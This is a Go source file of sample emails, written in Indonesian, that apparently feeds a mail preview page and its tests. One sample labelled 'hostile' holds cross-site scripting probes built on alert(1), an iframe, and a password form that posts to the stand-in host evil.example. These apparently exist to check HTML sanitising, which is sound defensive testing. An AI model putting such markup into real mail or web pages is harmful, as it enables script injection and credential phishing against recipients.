package email

import (
	"encoding/base64"
	"maps"
	"slices"

	"github.com/sapa-inbox/sapa/internal/simulate/booth"
)

// dot is a picture of one pixel.
var dot, _ = base64.StdEncoding.DecodeString("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")

// samples are mails as they really come, for the page and the tests.
var samples = map[string]Written{
	"html": {
		Subject: "Pesanan batik untuk seragam", Text: "Halo, kami butuh 40 potong kain batik.",
		HTML: `<div style="font-family:Arial"><h2 style="color:#7a3b10">Pesanan seragam</h2><p>Halo, kami butuh <b>40 potong</b> kain batik:</p>` +
			`<table border="1" cellpadding="6"><tr><th>Motif</th><th>Jumlah</th></tr><tr><td>Parang</td><td>25</td></tr><tr><td>Kawung</td><td>15</td></tr></table>` +
			`<p>Contohnya: <img src="cid:contoh.png" alt="contoh" width="24" height="24"></p><p><a href="https://example.com/katalog">Katalog</a></p></div>`,
		Files: []booth.File{{Type: "image/png", Name: "contoh.png", Bytes: dot}},
	},
	"newsletter": {
		Subject: "Promo akhir pekan", Text: "Diskon 50%",
		HTML:    `<p>Diskon <b>50%</b></p><img src="https://tracker.example/p.gif" width="1" height="1"><img src="https://example.com/spanduk.png" alt="Spanduk">`,
		Headers: []string{"List-Id: <promo.example>", "List-Unsubscribe: <https://example.com/berhenti>", "Precedence: bulk"},
	},
	"hostile": {
		Subject: "Tagihan", Text: "Lihat lampiran.",
		HTML: `<p onclick="alert(1)">Lihat <a href="javascript:alert(1)">tagihan</a><script>alert(1)</script><img src=x onerror=alert(1)><iframe src="https://evil.example"></iframe>` +
			`<form action="https://evil.example"><input name="password"></form><style>*{display:none}</style></p>`,
	},
	"absence": {
		Subject: "Balasan otomatis: cuti", Text: "Saya sedang cuti sampai Senin.",
		Headers: []string{"Auto-Submitted: auto-replied", "X-Auto-Response-Suppress: All", "Precedence: bulk"},
	},
}

func sampleNames() []string { return slices.Sorted(maps.Keys(samples)) }
